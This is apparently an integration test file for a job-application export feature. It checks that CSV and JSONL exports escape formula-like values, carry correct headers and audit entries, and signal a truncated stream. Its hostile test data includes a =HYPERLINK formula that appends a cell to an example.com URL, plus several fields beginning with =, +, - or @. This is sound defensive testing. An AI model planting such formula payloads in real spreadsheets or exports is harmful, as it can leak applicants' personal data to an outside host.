using System.Net;
using System.Text;
using System.Text.Json.Nodes;
using ApplyFunctions.Core.Applications;
using ApplyFunctions.Core.Cvs;
using ApplyFunctions.Core.Recruiting;
using ApplyFunctions.Functions.Http.Recruiting;
using CsvHelper;
using Microsoft.AspNetCore.Builder;
using Microsoft.AspNetCore.Hosting;
using Microsoft.AspNetCore.Hosting.Server;
using Microsoft.AspNetCore.Hosting.Server.Features;
using Microsoft.Extensions.DependencyInjection;
using Microsoft.Extensions.Logging.Abstractions;

namespace ApplyFunctions.Integration.Tests.Recruiting;

/// <summary>Applications as a file.</summary>
public sealed class ExportTests(RunningSystem system)
{
    private const string Formula = "=HYPERLINK(\"https://example.com/\"&A1)";

    private static readonly DateTimeOffset Noon = new(2026, 3, 1, 12, 0, 0, TimeSpan.Zero);

    private static CancellationToken Stop => TestContext.Current.CancellationToken;

    [Fact]
    public async Task A_sheet_has_a_row_for_each_and_a_column_for_each_question()
    {
        await using var board = await ListedBoard.MakeAsync(system);
        var id = await AddHostileAsync(board);
        await board.AddAsync(2, Noon.AddHours(1), null, 1);
        await board.UntilListedAsync(2);

        using var response = await ExportAsync(board, $$"""{"posting":{{board.Postings[0]}}}""");

        response.StatusCode.Should().Be(HttpStatusCode.OK);
        response.Content.Headers.ContentType!.ToString().Should().Be("text/csv; charset=utf-8");
        response.Headers.CacheControl!.NoStore.Should().BeTrue();
        response
            .Content.Headers.ContentDisposition!.ToString()
            .Should()
            .MatchRegex(
                $"^attachment; filename=\"applications-{board.Author.Board}-\\d{{4}}-\\d\\d-\\d\\d\\.csv\"$"
            );
        var bytes = await response.Content.ReadAsByteArrayAsync(Stop);
        bytes.Should().StartWith(Encoding.UTF8.GetPreamble());
        var row = Rows(bytes).Should().ContainSingle().Subject;
        row.Keys.Should()
            .Equal(
                "application_id",
                "posting_id",
                "posting",
                "received_at",
                "stage",
                "source",
                "flags",
                "first_name",
                "last_name",
                "email",
                "phone",
                "location",
                "files",
                "'=Why?",
                "Email (2)",
                "answers"
            );
        row["application_id"].Should().Be(id.ToString());
        row["posting"].Should().Be("Baker, \"night\" shift");
        row["received_at"].Should().Be("2026-03-01T12:00:00+00:00");
        row["stage"].Should().Be("received");
        row["source"].Should().Be("'@source");
        row["first_name"].Should().Be($"'{Formula}");
        row["last_name"].Should().Be("O'Neil, \"Ada\"\r\nEva");
        row["phone"].Should().Be("'+44 20 7946 0000");
        row["files"].Should().Be("'=cv.pdf");
        row["'=Why?"].Should().Be("'-1\nand more");
        row["Email (2)"].Should().BeEmpty();
        row["answers"].Should().Be("'+Left over: A; B\nOther: =1 Email: forged");
    }

    [Fact]
    public async Task A_sheet_of_several_postings_has_all_answers_in_one_column()
    {
        await using var board = await ListedBoard.MakeAsync(system);
        await AddHostileAsync(board);
        await board.AddAsync(2, Noon.AddHours(1), null, 1);
        await board.UntilListedAsync(2);
        await board.Author.SendAsync(
            HttpMethod.Delete,
            board.Author.JobPath(board.Postings[0]),
            null,
            ("If-Match", "*")
        );

        using var response = await ExportAsync(board, """{"sort":"oldest"}""");

        var rows = Rows(await response.Content.ReadAsByteArrayAsync(Stop));
        rows.Should().HaveCount(2);
        rows[0].Keys.Should().HaveCount(14).And.EndWith("answers");
        rows[0]["answers"].Should().StartWith("'=Why?: -1 and more\n+Left over: A; B\n");
        rows[0]["posting"].Should().BeEmpty("it is gone");
        rows[1]["posting"].Should().Be("'=Clerk");
        rows[1]["answers"].Should().BeEmpty();
    }

    [Fact]
    public async Task Lines_are_applications_as_they_are_read_alone()
    {
        await using var board = await ListedBoard.MakeAsync(system);
        var id = await AddHostileAsync(board);
        await board.AddAsync(2, Noon.AddHours(1), null, 1);
        await board.UntilListedAsync(2);

        using var response = await ExportAsync(board, """{"format":"jsonl","q":"clocks OR ada"}""");

        response.Content.Headers.ContentDisposition!.ToString().Should().EndWith(".jsonl\"");
        var text = await response.Content.ReadAsStringAsync(Stop);
        text.Should().EndWith("\n");
        var lines = text.TrimEnd('\n').Split('\n').Select(l => JsonNode.Parse(l)!).ToList();
        lines.Should().HaveCount(2);
        ((string)lines[0]["posting_title"]!).Should().Be("=Clerk");
        var read = (await board.GetAsync($"/applications/{id}")).Body;
        foreach (var (name, value) in lines[1].AsObject())
        {
            if (name != "posting_title")
            {
                JsonNode.DeepEquals(value, read[name]).Should().BeTrue(name);
            }
        }

        ((string)lines[1]["candidate"]!["first_name"]!).Should().Be(Formula, "it is data");
    }

    [Fact]
    public async Task Several_pages_are_one_file_and_each_is_recorded()
    {
        const int all = ExportListing.PageSize + 12;
        await using var board = await ListedBoard.MakeAsync(system);
        var ids = new List<ApplicationId>();
        foreach (var some in Enumerable.Range(1, all).Chunk(32))
        {
            ids.AddRange(await Task.WhenAll(some.Select(i => board.StoreAsync(i, Noon))));
        }

        await board.IndexAsync(ids);
        await board.UntilListedAsync(all);

        using var response = await ExportAsync(board, "{}");

        var rows = Rows(await response.Content.ReadAsByteArrayAsync(Stop));
        rows.Select(r => r["application_id"])
            .Should()
            .BeEquivalentTo(ids.Select(i => i.ToString()));
        var audit = (await board.GetAsync("/audit")).Body["entries"]!.AsArray();
        audit
            .Where(e => (string)e!["action"]! == "export")
            .Select(e => e!["application_ids"]!.AsArray().Count)
            .Should()
            .Equal(12, ExportListing.PageSize);
        audit.Should().Contain(e => (string)e!["action"]! == "list");
    }

    [Fact]
    public async Task A_file_that_breaks_off_does_not_look_whole()
    {
        var builder = WebApplication.CreateEmptyBuilder(new WebApplicationOptions());
        builder.WebHost.UseKestrelCore().UseUrls("http://127.0.0.1:0");
        await using var app = builder.Build();
        app.Run(http =>
            new ListingResult(
                new ExportedListing("a.csv", "text/csv", PartsAsync()),
                NullLogger.Instance
            ).ExecuteAsync(http)
        );
        await app.StartAsync(Stop);
        var address = app
            .Services.GetRequiredService<IServer>()
            .Features.Get<IServerAddressesFeature>()!
            .Addresses.Single();
        using var client = new HttpClient { BaseAddress = new Uri(address) };
        using var response = await client.GetAsync(
            "/",
            HttpCompletionOption.ResponseHeadersRead,
            Stop
        );

        var read = () => response.Content.ReadAsStringAsync(Stop);

        response.StatusCode.Should().Be(HttpStatusCode.OK, "it had begun");
        await read.Should().ThrowAsync<HttpRequestException>();

        static async IAsyncEnumerable<ReadOnlyMemory<byte>> PartsAsync()
        {
            yield return "a,b\r\n"u8.ToArray();
            await Task.Yield();
            throw new IOException("The table cannot be reached.");
        }
    }

    private static Task<ApplicationId> AddHostileAsync(ListedBoard board) =>
        board.AddAsync(
            1,
            Noon,
            r =>
                r with
                {
                    Source = "@source",
                    Candidate = new Candidate(
                        Formula,
                        "O'Neil, \"Ada\"\r\nEva",
                        "ada@example.com",
                        "+44 20 7946 0000",
                        null
                    ),
                    Answers =
                    [
                        new Core.Applications.Answer("question_1", "=Why?", ["-1\nand more"], []),
                        new Core.Applications.Answer(
                            "question_9",
                            "+Left over",
                            ["1", "2"],
                            ["A", "B"]
                        ),
                        new Core.Applications.Answer(
                            "question_8",
                            "Other",
                            ["=1\nEmail: forged"],
                            []
                        ),
                    ],
                },
            0,
            TextOutcome.Extracted
        );

    private Task<HttpResponseMessage> ExportAsync(ListedBoard board, string json)
    {
        var request = new HttpRequestMessage(HttpMethod.Post, $"{board.Path}/export")
        {
            Content = Author.Json(json),
        };
        request.Headers.TryAddWithoutValidation(
            "Authorization",
            board.Author.Credentials.Authorization
        );
        return system.Http.SendAsync(request, Stop);
    }

    private static List<Dictionary<string, string>> Rows(byte[] csv)
    {
        using var reader = CsvReader.Create(csv);
        var rows = new List<Dictionary<string, string>>();
        while (reader.Read())
        {
            var row = new Dictionary<string, string>(StringComparer.Ordinal);
            for (var i = 0; i < reader.FieldCount; i++)
            {
                row.Add(reader.Headers[i], reader.GetString(i));
            }

            rows.Add(row);
        }

        return rows;
    }
}
